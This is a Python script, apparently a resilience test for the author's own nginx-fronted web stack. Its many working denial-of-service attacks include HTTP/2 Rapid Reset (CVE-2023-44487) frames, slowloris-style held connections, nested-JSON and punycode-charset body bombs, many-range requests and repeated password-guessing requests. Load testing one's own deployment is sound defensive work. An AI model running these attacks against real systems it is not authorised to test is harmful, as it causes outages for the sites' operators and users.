"""Attacks on a production stack over HTTPS, run in a container: attacks.py NAME SECONDS HOST.

Each has 32 clients, who all begin again as soon as something is over, until the seconds are.
What they were answered is printed as JSON, by status or error.
"""

from __future__ import annotations

import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress

CLIENTS = 32
# Connections of each client: 6,144 in all
HELD = 192
NAME, SECONDS, HOST = ["", "0", "", *sys.argv[1:]][-3:] if __name__ == "__main__" else ["", "0", ""]
TOKEN, FILE = os.environ.get("TOKEN", ""), os.environ.get("FILE", "")
TLS = ssl.create_default_context()
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
END = time.monotonic() + float(SECONDS)
COUNT: Counter = Counter()
Answer = tuple[str, bytes]
MEGABYTE = 10**6


def connect(protocols: tuple[str, ...] = ("http/1.1",)) -> ssl.SSLSocket:
    TLS.set_alpn_protocols(list(protocols))
    return TLS.wrap_socket(plain(443), server_hostname=HOST)


def plain(port: int) -> socket.socket:
    # Longer than nginx delays a request that is one too many
    return socket.create_connection(("nginx", port), 40)


def request(
    path: str = "/api/posts/",
    body: bytes | None = None,
    kind: str = "application/json",
    method: str = "",
    **headers: str,
) -> bytes:
    """Return a request; a name of a header has underscores for dashes."""
    lines = [f"{method or ('GET' if body is None else 'POST')} {path} HTTP/1.1", f"Host: {HOST}"]
    if body is not None:
        lines += [f"Content-Type: {kind}", f"Content-Length: {len(body)}"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + (body or b"")


def form(parts: Iterator[tuple[str, bytes]]) -> bytes:
    start = '--b\r\nContent-Disposition: form-data; name="'
    return b"".join(f"{start}{n}\r\n\r\n".encode() + c + b"\r\n" for n, c in parts) + b"--b--\r\n"


def status_of(connection: socket.socket) -> str:
    """Read until an answer's head is there."""
    answer = b""
    while b"\r\n\r\n" not in answer:
        received = connection.recv(65536)
        if not received:
            return "closed"
        answer += received
    return answer[9:12].decode()


def send(*wanted: bytes) -> Callable[[], None]:
    """Return what sends one of these requests after the other, each on its own connection."""

    def attack() -> None:
        for each in wanted:
            with connect() as connection:
                # It may be answered before it is sent.
                with suppress(OSError):
                    connection.sendall(each)
                COUNT[status_of(connection)] += 1

    return attack


def has_ended(connection: socket.socket) -> bool:
    poll = select.poll()
    poll.register(connection, select.POLLRDHUP)
    return bool(poll.poll(0))


def hold(port: int, opened: Callable[[int], tuple[socket.socket, bytes]]) -> Callable[[], None]:
    """Return what opens many connections and sends a byte on each now and then."""

    def attack() -> None:
        held = []
        try:
            while len(held) < HELD and time.monotonic() < END:
                held.append(opened(port))
            COUNT["held"] += len(held)
            while time.monotonic() < END and held:
                for each in list(held):
                    connection, trickle = each
                    try:
                        connection.send(trickle)
                        ended = has_ended(connection)
                    except OSError:
                        ended = True
                    if ended:
                        held.remove(each)
                        connection.close()
                        COUNT["ended"] += 1
                time.sleep(1)
        finally:
            for connection, _ in held:
                connection.close()

    return attack


def started(start: bytes, trickle: bytes, receive: int = 0) -> Callable:
    def opened(port: int) -> tuple[socket.socket, bytes]:
        raw = socket.socket()
        if receive:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        raw.settimeout(10)
        raw.connect(("nginx", port))
        connection = TLS.wrap_socket(raw, server_hostname=HOST) if port == 443 else raw
        if start:
            connection.sendall(start)
        return connection, trickle

    return opened


def unfinished(port: int) -> tuple[socket.socket, bytes]:
    """Begin a TLS handshake, and leave it at that."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        TLS.wrap_bio(incoming, outgoing, server_hostname=HOST).do_handshake()
    connection = plain(port)
    connection.sendall(outgoing.read())
    return connection, b""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def rapid_reset() -> None:
    """HTTP/2: begin a request and take it back, again and again (CVE-2023-44487)."""
    name = HOST.encode()
    path = b"/api/posts/"
    # Of the static table: GET, https; then path and host as they are
    head = b"\x82\x87\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(name)]) + name
    with connect(("h2",)) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        for stream in range(1, 20_001, 2):
            connection.sendall(frame(1, 5, stream, head) + frame(3, 0, stream, b"\0\0\0\x08"))
            COUNT["reset"] += 1
            if time.monotonic() > END:
                break
            if has_ended(connection):
                COUNT["closed"] += 1
                break


def handshake() -> None:
    connect().close()
    COUNT["done"] += 1


def pipeline() -> None:
    with connect() as connection:
        connection.sendall(request("/api/posts/") * 200)
        for _ in range(200):
            COUNT[status_of(connection)] += 1


def trickle() -> None:
    """Send a body in chunks of a byte."""
    start = request(method="POST", Transfer_Encoding="chunked", Content_Type="application/json")
    COUNT["begun"] += 1
    with connect() as connection:
        connection.sendall(start)
        for _ in range(3000):
            connection.sendall(b"1\r\n[\r\n" * 10)
            if time.monotonic() > END:
                return
            time.sleep(0.01)
        connection.sendall(b"0\r\n\r\n")
        COUNT[status_of(connection)] += 1


def random_words(number: int) -> str:
    return "".join(random.choices("abcdefghijklmnopqrstuvwxyz/%.~", k=number))  # noqa: S311


def nonsense() -> None:
    """Ask for what is not there, in ways that are not known."""
    queries = ("ordering=-likes,title,x", "page=99999999999", "page_size=100000", "tag=%00&tag=x")
    for query in queries:
        send(request(f"/api/posts/?{query}"))()
    for method in ("OPTIONS", "HEAD", "PATCH", "PROPFIND"):
        send(request("/api/posts/1/", method=method))()
    send(request("/" + random_words(40)), request("/api/" + random_words(3000)))()


BOMB = {"Authorization": f"Bearer {TOKEN}"}
TERMS = ",".join("abcdefghij"[i % 10] + "klmnopqrst"[i // 10 % 10] for i in range(1000))
JSON_PUNYCODE = "application/json; charset=punycode"
FORM_PUNYCODE = "application/x-www-form-urlencoded; charset=punycode"
PART = "multipart/form-data; boundary=b"
LETTERS = b"a" * 2_400_000
HEAD = f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode()
SLOW_BODY = request(method="POST", Content_Length="9000000", Content_Type="application/json")
POST = b'{"title": "x", "body": "' + b"y" * MEGABYTE + b'"}'

ATTACKS: dict[str, Callable[[], None]] = {
    # Bodies
    "nested json": send(request("/api/auth/signup/", b"[" * 2 * MEGABYTE)),
    "wide json": send(request("/api/auth/signup/", b"[" + b"{}," * 800_000 + b"{}]")),
    "long number": send(request("/api/auth/signup/", b"1" * 2 * MEGABYTE)),
    "thousands of parts": send(
        request("/admin/login/", form((f'f{i}"', b"x") for i in range(30_000)), PART)
    ),
    "thousands of fields": send(
        request("/admin/login/", b"a=1&" * 500_000, "application/x-www-form-urlencoded")
    ),
    "large posts": send(request("/api/posts/", POST, **BOMB)),
    "image bombs": send(),
    "chunks of a byte": trickle,
    # Queries and paths
    "search for a thousand terms": send(request(f"/api/posts/?search={TERMS}")),
    "search in disguise": send(request(f"/api/posts/?page=1&%73e%61rch={TERMS}")),
    "the schema": send(request("/api/schema/"), request("/api/docs/")),
    "nonsense": nonsense,
    "long addresses": send(request("/api/posts/?" + "a=b&" * 2000)),
    "many headers": send(request("/api/posts/", **{f"X{i}": "y" * 80 for i in range(90)})),
    "large cookies": send(request("/admin/", Cookie="sessionid=" + "c=d;" * 1500)),
    "passwords": send(request("/api/auth/token/", b'{"email": "a@b.kr", "password": "guess-1"}')),
    "refresh tokens": send(request("/api/auth/token/refresh/", b'{"refresh": "a.b.c"}')),
    "posts": send(request("/api/posts/?page_size=100")),
    "many ranges": send(request(FILE, Range="bytes=" + ",".join(["0-1"] * 1000))),
    # Connections
    "idle": hold(443, started(b"", b"")),
    "slow headers": hold(80, started(HEAD + b"X: ", b"x")),
    "slow headers in tls": hold(443, started(HEAD + b"X: ", b"x")),
    "slow bodies": hold(443, started(SLOW_BODY, b"[")),
    "slow readers": hold(443, started(request(FILE) * 20, b"", 2048)),
    "unfinished handshakes": hold(443, unfinished),
    "handshakes": handshake,
    "pipelining": pipeline,
    "rapid reset": rapid_reset,
    # Last: each may take all threads of the site for half an hour.
    "json in punycode": send(request("/api/auth/signup/", LETTERS, JSON_PUNYCODE)),
    "form in punycode": send(request("/admin/login/", b"a=" + LETTERS, FORM_PUNYCODE)),
    "multipart in punycode": send(
        request("/admin/login/", form([('a"', LETTERS)]), f"{PART}; charset=punycode")
    ),
}


def client(attack: Callable[[], None]) -> None:
    while time.monotonic() < END:
        try:
            attack()
        except OSError as error:
            COUNT[type(error).__name__] += 1
            time.sleep(0.01)


def main() -> None:
    if NAME == "image bombs":
        with open(os.environ["BOMB"], "rb") as file:
            body = form(iter([('image"; filename="a.png"', file.read())]))
        ATTACKS[NAME] = send(request("/api/posts/1/image/", body, PART, "PUT", **BOMB))
    threads = [
        threading.Thread(target=client, args=[ATTACKS[NAME]], daemon=True) for _ in range(CLIENTS)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0, END + 1 - time.monotonic()))
    print(json.dumps(COUNT))


if __name__ == "__main__":
    main()
